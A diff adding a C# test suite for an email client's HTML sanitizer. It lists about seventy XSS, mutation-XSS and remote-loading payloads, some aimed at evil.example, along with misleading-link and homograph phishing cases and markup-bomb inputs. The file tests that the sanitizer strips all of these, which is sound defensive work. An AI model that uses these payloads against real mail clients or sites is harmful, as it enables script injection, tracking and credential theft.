@@ -1,0 +1,235 @@
+using System.Diagnostics;
+using AngleSharp.Dom;
+using AngleSharp.Html.Parser;
+using InboxMind.Api.Emails;
+using InboxMind.Core.Mail;
+
+namespace InboxMind.Api.Tests.Emails;
+
+public sealed class SafeHtmlTests
+{
+    private static readonly EmailId Id = new(new string('a', EmailId.Length));
+
+    /// <summary>Attacks of many kinds. What is left of each is parsed again and looked at node by node.</summary>
+    public static TheoryData<string> Attacks =>
+    [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"x\" onerror\t=\t\"alert(1)\">",
+        "<img/src=x/onerror=alert(1)>",
+        "<img src=\"cid:a\" onload=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<svg><script>alert(1)</script></svg>",
+        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+        "<svg><animate attributeName=href to=javascript:alert(1) /></svg>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+        "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+        "<a href=\"java\nscript:alert(1)\">x</a>",
+        "<a href=\"java&#x09;script:alert(1)\">x</a>",
+        "<a href=\" &#14; javascript:alert(1)\">x</a>",
+        "<a href=\"&#106;avascript:alert(1)\">x</a>",
+        "<a href=\"vbscript:msgbox(1)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
+        "<a href=\"file:///etc/passwd\">x</a>",
+        "<a href=\"/api/v1/account\">x</a>",
+        "<a href=\"//evil.example\">x</a>",
+        "<a href=\"blob:https://x.example/1\">x</a>",
+        "<iframe src=https://evil.example></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<object data=evil.swf></object><embed src=evil.swf><applet code=x></applet>",
+        "<base href=https://evil.example/>",
+        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
+        "<link rel=stylesheet href=https://evil.example/x.css>",
+        "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>",
+        "<p style=\"background:url(https://evil.example/y)\">x</p>",
+        "<p style=\"background:\\75rl(https://evil.example/y)\">x</p>",
+        "<p style=\"width:expression(alert(1))\">x</p>",
+        "<p style=\"-moz-binding:url(https://evil.example/x)\">x</p>",
+        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\">x</p>",
+        "<p style=\"list-style-image:url(https://evil.example/y);content:url(https://evil.example/z)\">x</p>",
+        "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
+        "<input type=image src=https://evil.example/x.png>",
+        "<img src=https://evil.example/pixel.gif>",
+        "<img src=//evil.example/pixel.gif>",
+        "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
+        "<img srcset=\"https://evil.example/x 2x\" alt=a>",
+        "<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>",
+        "<video src=https://evil.example/x poster=https://evil.example/y></video><audio src=https://evil.example/z></audio>",
+        "<body background=https://evil.example/x onload=alert(1)>hi</body>",
+        "<table background=https://evil.example/x><tr><td background=https://evil.example/y>x</td></tr></table>",
+        "<div id=app name=config class=hidden data-x=1>x</div>",
+        "<template><img src=x onerror=alert(1)></template>",
+        "<textarea></textarea><img src=x onerror=alert(1)>",
+        "<title><img src=x onerror=alert(1)></title>",
+        "<xmp><img src=x onerror=alert(1)></xmp>",
+        "<plaintext><img src=x onerror=alert(1)>",
+        "<!--><img src=x onerror=alert(1)>-->",
+        "<!--[if mso]><img src=https://evil.example/x><![endif]-->",
+        "<![CDATA[<img src=x onerror=alert(1)>]]>",
+        "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+        "<frameset onload=alert(1)><frame src=https://evil.example></frameset>",
+        "<details open ontoggle=alert(1)>x</details>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<isindex action=javascript:alert(1)>",
+        "<a href=https://x.example ping=https://evil.example>x</a>",
+        "<q cite=\"javascript:alert(1)\">x</q>",
+        "<img alt=\"`><img src=x onerror=alert(1)>\" src=x>",
+        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
+        "<a href='https://x.example/\"onmouseover=\"alert(1)'>x</a>",
+        "\u0000<im\u0000g src=x onerror=alert(1)>",
+    ];
+
+    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;
+
+    [Theory]
+    [MemberData(nameof(Attacks))]
+    public async Task OfAsync_Attack_LeavesNothingThatRunsOrLoads(string html)
+    {
+        var safe = await CleanAsync(html);
+
+        ShouldBeHarmless(safe.Html!);
+        ShouldBeHarmless((await CleanAsync(safe.Html + " ")).Html ?? "");
+    }
+
+    [Fact]
+    public async Task OfAsync_AllAttacksInOneMail_LeaveNothing() =>
+        ShouldBeHarmless((await CleanAsync(string.Concat(Attacks.Select(static a => a.Data)))).Html!);
+
+    [Fact]
+    public async Task OfAsync_Newsletter_KeepsItsLooks()
+    {
+        var safe = await CleanAsync(
+            "<html><head><title>T</title><style>p{color:red}</style></head><body><table width=\"600\" cellpadding=4><tr><td bgcolor=\"#eeeeee\" align=center>"
+            + "<h1 style=\"color:#003366; font-size: 20px\">News</h1><o:p>office</o:p><p>One &amp; <b>two</b><br>&lt;three&gt;</p></td></tr></table></body></html>");
+
+        safe.Html!.ShouldContain("<td bgcolor=\"#eeeeee\" align=\"center\">");
+        safe.Html!.ShouldContain("font-size: 20px");
+        safe.Html!.ShouldContain("office");
+        safe.Html!.ShouldContain("One &amp; <b>two</b><br>&lt;three&gt;");
+        safe.Html!.ShouldNotContain("color:red");
+        (safe.RemoteContent, safe.ActiveContent, safe.MisleadingLinks).ShouldBe((0, 0, 0));
+    }
+
+    [Theory]
+    [InlineData("<a href=\"https://evil.example/x\">https://bank.example/login</a>", "[evil.example]")]
+    [InlineData("<a href=\"https://evil.example/x\">www.bank.example</a>", "[evil.example]")]
+    [InlineData("<a href=\"https://evil.example/x\">Go to <b>bank</b>.example now</a>", "[evil.example]")]
+    [InlineData("<a href=\"https://bank.example@evil.example/\">bank.example</a>", "[evil.example]")]
+    [InlineData("<a href=\"https://bank.example.evil.test/\">bank.example</a>", "[bank.example.evil.test]")]
+    [InlineData("<a href=\"https://bаnk.example/\">bank.example</a>", "[xn--bnk-6cd.example]")]
+    [InlineData("<a href=\"http://192.0.2.1/x\">bank.example</a>", "[192.0.2.1]")]
+    [InlineData("<a href=\"mailto:thief@evil.example\">pay@bank.example</a>", "[evil.example]")]
+    public async Task OfAsync_LinkThatNamesAnotherPlace_ShowsBoth(string html, string shown)
+    {
+        var safe = await CleanAsync(html);
+
+        safe.MisleadingLinks.ShouldBe(1);
+        safe.Html!.ShouldContain($"{shown}</a>");
+    }
+
+    [Theory]
+    [InlineData("<a href=\"https://b\u0430nk.example:8443/x\">Go</a>", "https://xn--bnk-6cd.example:8443/x")]
+    [InlineData("<a href=\"https://bank.example@evil.example/y\">Go</a>", "https://evil.example/y")]
+    public async Task OfAsync_Link_SaysInItsTipWhereItLeads(string html, string tip) =>
+        (await CleanAsync(html)).Html!.ShouldContain($"title=\"{tip}\"");
+
+    [Theory]
+    [InlineData("<a href=\"https://bank.example/login\">https://bank.example/login</a>")]
+    [InlineData("<a href=\"https://www.bank.example/login\">bank.example</a>")]
+    [InlineData("<a href=\"https://bank.example/login\">Log in</a>")]
+    [InlineData("<a href=\"mailto:anna@example.com\">anna@example.com</a>")]
+    public async Task OfAsync_HonestLink_StaysAsItIs(string html)
+    {
+        var safe = await CleanAsync(html);
+
+        safe.MisleadingLinks.ShouldBe(0);
+        safe.Html!.ShouldContain("rel=\"noopener noreferrer nofollow\"");
+        safe.Html!.ShouldContain("target=\"_blank\"");
+        safe.Html!.ShouldNotContain("[");
+    }
+
+    [Fact]
+    public async Task OfAsync_Images_ShowThoseOfTheMailAndCountTheRest()
+    {
+        var safe = await CleanAsync(
+            "<img src=\"cid:one@x\"><img src=\"CID:two%40x\"><img src=\"cid:none\" alt=\"a &lt;b&gt;\"><img src=\"https://x.example/p.gif\" alt=\"Logo\">",
+            new AttachmentInfo("", "image/png", 1, "one@x", true), new AttachmentInfo("", "image/png", 1, "two@x", true));
+
+        safe.Html.ShouldBe(
+            $"<img src=\"/api/v1/emails/{Id}/attachments/1\"><img src=\"/api/v1/emails/{Id}/attachments/2\">a &lt;b&gt;Logo");
+        safe.RemoteContent.ShouldBe(1);
+    }
+
+    [Fact]
+    public async Task OfAsync_WhatIsTakenOut_IsCounted()
+    {
+        var safe = await CleanAsync(
+            "<style>p{background:url(x)}</style><link rel=stylesheet href=x><img src=http://x.example><p background=x onclick=a>x</p>"
+            + "<script></script><form><input></form><a href=javascript:a>x</a><svg></svg>");
+
+        (safe.RemoteContent, safe.ActiveContent).ShouldBe((4, 6));
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData("   \n")]
+    public async Task OfAsync_NoHtml_IsNone(string html) => (await CleanAsync(html)).ShouldBe(new SafeHtml(null, null, 0, 0, 0));
+
+    [Theory]
+    [InlineData("<div>", 50_000)]
+    [InlineData("<b>", 50_000)]
+    [InlineData("<p><font color=", 4_000)]
+    [InlineData("<a href=x>", 50_000)]
+    [InlineData("<table><tr><td>", 20_000)]
+    [InlineData("x<i>y", 50_000)]
+    public async Task OfAsync_TangledHtml_IsNotShownAndTakesNoTime(string piece, int times)
+    {
+        var html = string.Concat(Enumerable.Range(0, times).Select(i => piece.EndsWith('=') ? $"{piece}{i}>x" : piece));
+        var start = Stopwatch.GetTimestamp();
+
+        var safe = await CleanAsync(html);
+
+        safe.Html.ShouldBeNull();
+        safe.Note.ShouldNotBeNullOrEmpty();
+        Stopwatch.GetElapsedTime(start).ShouldBeLessThan(TimeSpan.FromSeconds(20));
+    }
+
+    [Fact]
+    public async Task OfAsync_EndlessStyle_TakesNoTime()
+    {
+        var safe = await CleanAsync($"<p style=\"width:{new string('(', 500_000)}\">x</p><p style=\"color:{string.Concat(Enumerable.Repeat("calc(", 300))}\">y</p>");
+
+        safe.Html.ShouldBe("<p>x</p><p>y</p>");
+    }
+
+    private static Task<SafeHtml> CleanAsync(string html, params AttachmentInfo[] attachments) => SafeHtml.OfAsync(html, Id, attachments, Cancellation);
+
+    private static void ShouldBeHarmless(string html)
+    {
+        var document = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument($"<body>{html}</body>");
+        foreach (var element in document.Body!.Descendants<IElement>())
+        {
+            element.NamespaceUri.ShouldBe("http://www.w3.org/1999/xhtml", html);
+            "a b blockquote br details div font h1 hr i img p q span table tbody td tr".Split(' ').ShouldContain(element.LocalName, html);
+            foreach (var attribute in element.Attributes)
+            {
+                "align alt bgcolor cellpadding color href rel src style target title width".Split(' ').ShouldContain(attribute.Name, html);
+                if (attribute.Name == "src")
+                    attribute.Value.ShouldStartWith($"/api/v1/emails/{Id}/attachments/");
+                if (attribute.Name == "href")
+                    new[] { "http://", "https://", "mailto:", "tel:" }.ShouldContain(s => attribute.Value.StartsWith(s), html);
+                if (attribute.Name == "style")
+                    new[] { "url", "expression", "position", "binding", "content", "image", "\\" }.ShouldAllBe(s => !attribute.Value.Contains(s), html);
+            }
+        }
+
+        document.Descendants<IComment>().ShouldBeEmpty(html);
+    }
+}
